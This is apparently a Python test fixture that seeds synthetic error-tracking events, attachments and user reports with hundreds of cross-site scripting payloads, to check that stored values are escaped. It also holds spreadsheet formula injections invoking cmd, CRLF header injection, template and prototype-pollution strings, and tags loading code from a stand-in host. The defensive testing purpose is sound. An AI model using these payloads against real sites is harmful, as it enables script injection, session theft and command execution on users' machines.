"""Text that would run if any page forgot to escape it once, and an event that carries it everywhere.

CALL is a script that sets window.hacked; every payload has it in another context. Values that are shown inside
HTML, attributes, URLs, scripts, styles, SVG, templates, spreadsheets and mails are all the same to a sender.
Most are made: each way out of a place, with each thing that runs. Those that have tricks of their own are listed.
"""

import itertools
import json

CALL = "window.hacked=1"
HOST = "canary.invalid"  # nothing may ever be asked for there

# The ways out of where a value may stand: text, attributes, other elements, comments, sections.
OUT = ["", '">', "'>", "`>", "</script>", "</title>", "</textarea>", "</style>", "-->", "]]>", "</noscript>", "</template>",
       "</select>", "</svg>", "*/</style>"]

RUNS = [f"<script>{CALL}</script>", f"<img src=x onerror={CALL}>", f"<svg onload={CALL}>", f"<svg/onload={CALL}//",
        f"<details open ontoggle={CALL}>", f"<input autofocus onfocus={CALL}>", f"<video><source onerror={CALL}></video>",
        f"<audio src=x onerror={CALL}>", f"<iframe src=javascript:{CALL}></iframe>", f"<iframe srcdoc=\"<script>{CALL}</script>\">",
        f"<script src=//{HOST}/x.js></script>", f"<link rel=stylesheet href=//{HOST}/x.css>", f"<object data=//{HOST}/x></object>",
        f"<embed src=//{HOST}/x>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<marquee onstart={CALL}>",
        f"<a href=javascript:{CALL}>x</a>", f"<style>@import '//{HOST}/x.css'</style>"]

# A new attribute in an element of ours.
HANDLERS = ["onmouseover", "onfocus", "onerror", "onload", "onclick", "ontoggle", "onpointerenter", "onanimationstart",
            "ontransitionend", "onbeforeinput", "oncopy", "onscroll", "onwheel", "onauxclick", "onsecuritypolicyviolation"]
QUOTES = ['"', "'", "`", ""]

# What an address may be, and what is taken for one.
ADDRESSES = [f"{scheme}{CALL}" for scheme in (
    "javascript:", "java\tscript:", "java\nscript:", "java\rscript:", " javascript:", "\x01javascript:", "\x0bjavascript:",
    "JaVaScRiPt://%0a", "javascript:%0a", "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "&#106;avascript:",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A", "javascript:/*--></title></style></script>*/", "vbscript:",
    "livescript:", "mocha:", "view-source:javascript:", "feed:javascript:", "blob:javascript:", "javascript:'//\";",
    "\u0458avascript:", "java\u200bscript:", "\ufeffjavascript:", "jar:javascript:")] + [
    f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>", f"data:application/javascript,{CALL}",
    f"//{HOST}/x", f"\\\\{HOST}/x", f"/\\{HOST}/x", f"https:\\\\{HOST}/x", f"https://{HOST}\\@example.org/",
    f"http://example.org@{HOST}/", f"https:{HOST}/x", f"/\t/{HOST}/x"]

SCRIPT = f"<script>{CALL}</script>"


def spelled(how):
    return "".join(how(c) for c in SCRIPT)


# The same script in the spellings that somebody might decode once too often.
SPELLED = [
    spelled(lambda c: f"&#{ord(c)};"), spelled(lambda c: f"&#{ord(c):07}"), spelled(lambda c: f"&#x{ord(c):x};"),
    spelled(lambda c: f"\\u{ord(c):04x}"), spelled(lambda c: f"\\x{ord(c):02x}"), spelled(lambda c: f"%{ord(c):02X}"),
    spelled(lambda c: f"%25{ord(c):02X}"), spelled(lambda c: f"%u{ord(c):04X}"), spelled(lambda c: f"\\{ord(c):o}"),
    spelled(lambda c: f"\\{ord(c):x} "), spelled(lambda c: chr(ord(c) + 0xfee0) if "!" <= c <= "~" else c),
    SCRIPT.replace("<", "&lt;").replace(">", "&gt;"), SCRIPT.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    SCRIPT.replace("<", "\\u003c").replace(">", "\\u003e"), SCRIPT.replace("<", "%3C").replace(">", "%3E"),
    SCRIPT.replace("<", "\u2039").replace(">", "\u203a"), SCRIPT.replace("<", "\ufe64").replace(">", "\ufe65"),
    SCRIPT.replace("<", "%c0%bc"), f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-", f"<\x00script>{CALL}</script>",
    f"<scr\x00ipt>{CALL}</script>", f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script\x0c>{CALL}</script>", f"<script/x>{CALL}</script >", f"<<script>{CALL}//<</script>", f"<script>{CALL}",
    f"<script type=module>{CALL}</script>", f"<script language=vbscript>{CALL}</script>", f"\u00bcscript\u00be{CALL}\u00bc/script\u00be"]

# Code, where somebody builds code from text.
CODE = [f"{end};{CALL}//" for end in ("'", '"', "`", "\\'", '\\"', "')", '")', "'}", "]", "\u2028", "\u2029", "\n", "\\\n")] + [
    f"${{{CALL}}}", f"#{{{CALL}}}", f"<%= {CALL} %>", f"<%- {CALL} %>", f"{{% {CALL} %}}", f"{{{{{CALL}}}}}", f"[[{CALL}]]", f"@({CALL})",
    f"{{{{constructor.constructor('{CALL}')()}}}}", f"{{{{$on.constructor('{CALL}')()}}}}", f"*{{{CALL}}}", f"~{{{CALL}}}",
    f'<?cs var:"<script>{CALL}</script>" ?>', "<?cs uvar:Org.name ?>", '<?cs include:"../config.yml" ?>', '<?cs evar:Csrf ?>',
    "<?cs each:x = Query ?>x<?cs /each ?>", f"<?php echo '{SCRIPT}' ?>", "__proto__", "constructor", "toString", "hasOwnProperty",
    '{"__proto__":{"hacked":1}}']

# Styles, spreadsheets, Markdown, terminals, and text that turns around.
OTHERS = [f"x:expression({CALL})", f"background:url(//{HOST}/a)", f"}}*{{background:url(//{HOST}/b)}}", f"@import url(//{HOST}/c);",
          f"-moz-binding:url(//{HOST}/d#x)", f"behavior:url(//{HOST}/e)", "width:expression(1)", "\\65xpression(1)",
          f"=HYPERLINK(\"//{HOST}/\")", f"+cmd|'/c calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
          f"![x](//{HOST}/x.png)", f"[x](javascript:{CALL})", f"[x]: javascript:{CALL}", f"<javascript:{CALL}>", f"![x](x \"{SCRIPT}\")",
          f"```\n{SCRIPT}\n```", f"[<img src=x onerror={CALL}>](x)", f"[x](data:text/html,{SCRIPT})", "\u202e<b>\u2066\u200b</b>\u0000\x1b[31m",
          "\u202egpj.exe\u202c", "\u2067right\u2069", "a\u0300\u0301\u0302" * 40, "\ufff9a\ufffab\ufffb", "\U000e0041\U000e0042",
          "\x1b]0;title\x07\x1b[2J", "\x9b31m", "\r\nSet-Cookie: a=b\r\n\r\n" + SCRIPT, "%0d%0aX-Evil:1", "\U0001f600" * 60]

# Trees that a parser builds otherwise than they read.
TREES = [f"<math><mtext></mglyph><svg><style></math><img src=x onerror={CALL}>",
         f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">", f"<svg><script>{CALL}</script></svg>",
         f'<svg><a xlink:href="javascript:{CALL}"><text>x</text></a></svg>', f"<math href=javascript:{CALL}>x</math>",
         f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
         f"<svg></p><style><a id=\"</style><img src=1 onerror={CALL}>\">", f"<table><td><style></table><img src=x onerror={CALL}>",
         f"<select><template><style></select><img src=x onerror={CALL}>", f"<svg><desc><style><img src=x onerror={CALL}></style>",
         f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>", f"<svg><use href=data:image/svg+xml,<svg/onload={CALL}>#x>",
         f"<svg><set attributeName=onmouseover to={CALL}>", f"<template><img src=x onerror={CALL}></template>",
         f"<xmp><img src=x onerror={CALL}></xmp>", f"<plaintext><img src=x onerror={CALL}>", f"<body onload={CALL}>", f"<frameset onload={CALL}>",
         f"<base href=//{HOST}/>", f"<meta http-equiv=refresh content='0;url=//{HOST}/'>", f"<meta charset=utf-7>{SPELLED[18]}",
         f"<meta http-equiv=Set-Cookie content=a=b>", f"<form action=//{HOST}/><button autofocus>x", f"<button formaction=javascript:{CALL}>x",
         f"<input type=image src=x onerror={CALL}>", f"<isindex action=javascript:{CALL}>", f"<dialog open onclose={CALL}>",
         f"<portal src=//{HOST}/>", f"<img srcset=//{HOST}/x>", f"<img src='//{HOST}/x?", f"<img lowsrc=//{HOST}/x dynsrc=//{HOST}/y>",
         f"<table background=//{HOST}/x>", f"<body background=//{HOST}/x>", f"<link rel=import href=//{HOST}/x>", f"<link rel=prefetch href=//{HOST}/x>",
         f"<applet code=//{HOST}/x>", f"<bgsound src=//{HOST}/x>", f"<keygen autofocus onfocus={CALL}>", f"<x onclick={CALL} id=x tabindex=1>#x",
         "<!--", "<![CDATA[", "<!DOCTYPE x>", "<?xml version='1.0'?>", "<!ENTITY x 'y'>", "</html>", "</body></html>", "</main></div></div>",
         "<h1>x</h1>", "<form id=x><input name=csrf>", "<a id=x name=csrf>", "<img name=getElementById>", "<form name=body><input name=firstChild>"]

PAYLOADS = list(dict.fromkeys([
    *(out + runs for out, runs in itertools.product(OUT, RUNS)),
    *(f"{q}{space}{name}={q}{CALL}{q}{space}x={q}" for q in QUOTES for space, name in zip(itertools.cycle(" /\t\n"), HANDLERS)),
    f'" style="background:url(//{HOST}/a)', f"' style='animation:x' onanimationstart='{CALL}",
    *ADDRESSES, *SPELLED, *CODE, *OTHERS, *TREES]))


class Deal:
    """Payloads in turn, from another one on for each event, so that every field meets many."""

    def __init__(self, start):
        self.at = start
        self.dealt = set()

    def __call__(self):
        self.at += 1
        text = PAYLOADS[self.at % len(PAYLOADS)]
        self.dealt.add(text)
        return text

    def pairs(self, number):
        return {self(): self() for _ in range(number)}


def event(n):
    """An event with a payload in every field and key that a sender writes, and dozens where many may stand."""
    p = Deal(n * 71)
    frame = {"function": p(), "module": p(), "filename": p(), "abs_path": p(), "lineno": 1, "colno": 2, "in_app": True,
             "pre_context": [p(), p()], "context_line": p(), "post_context": [p(), p()], "package": p(), "platform": p(),
             "vars": {**p.pairs(8), "list": [p(), p.pairs(1)], "deep": {"a": p.pairs(1)}}}
    stack = {"frames": [frame, {**frame, "in_app": False}]}
    return {
        "platform": "python", "transaction": p(), "logger": p(), "server_name": p(), "release": p(), "dist": p(),
        "environment": p(), "message": p(), "logentry": {"message": p(), "params": [p()]}, "culprit": p(),
        "exception": {"values": [{"type": p(), "value": p(), "module": p(), "thread_id": 1, "stacktrace": stack,
                                  "mechanism": {"type": p(), "handled": False, "description": p(), "help_link": p(),
                                                "data": p.pairs(1)}}]},
        "threads": {"values": [{"id": 1, "name": p(), "crashed": True, "stacktrace": stack}]},
        "breadcrumbs": {"values": [
            *({"type": p(), "category": p(), "message": p(), "level": p(), "data": p.pairs(1)} for _ in range(6)),
            {"category": "http", "data": {"url": p(), "method": p(), "status_code": p()}},
            {"category": "navigation", "data": {"from": p(), "to": p()}}]},
        "request": {"url": p(), "method": p(), "query_string": p(), "fragment": p(), "headers": {**p.pairs(4), "User-Agent": p()},
                    "cookies": p.pairs(2), "data": p.pairs(4), "env": p.pairs(2)},
        "user": {"id": p(), "username": p(), "email": p(), "ip_address": p(), "name": p(), "geo": p.pairs(1), **p.pairs(2)},
        "tags": {"key": p(), **p.pairs(12)}, "extra": {**p.pairs(12), "0.Name": p(), "list": [p(), p(), p()]},
        "contexts": {p(): p.pairs(2), **{k: {"name": p(), "version": p(), p(): p()}
                                         for k in ("runtime", "os", "browser", "device", "app", "gpu", "culture")},
                     "flags": {"values": [{"flag": p(), "result": p()}]}, "trace": {"op": p(), "description": p()}},
        "modules": p.pairs(4), "fingerprint": [p(), str(n)],
        "sdk": {"name": p(), "version": p(), "integrations": [p()], "packages": [{"name": p(), "version": p()}]},
        "debug_meta": {"images": [{"type": p(), "code_file": p(), "debug_id": p()}]}, "errors": [{"type": p(), "name": p()}],
    }, p.dealt


def items(n, id):
    """The event with its attachments and its user's words, a message by itself, and all payloads that are in them."""
    p = Deal(n * 113)
    made, dealt = event(n)
    told = {"contexts": {"feedback": {"message": p(), "name": p(), "contact_email": p(), "source": p(), "url": p()}},
            "request": {"url": p()}, "release": p(), "environment": p(), "platform": "javascript"}
    body = json.dumps(p.pairs(1)).encode()
    return [({"type": "event"}, {"event_id": id, **made}),
            ({"type": "attachment", "filename": p(), "content_type": "text/html"}, p().encode()),
            ({"type": "attachment", "filename": p() + ".png", "attachment_type": p()}, body),
            ({"type": "user_report"}, {"event_id": id, "name": p(), "email": p(), "comments": p()})], told, dealt | p.dealt
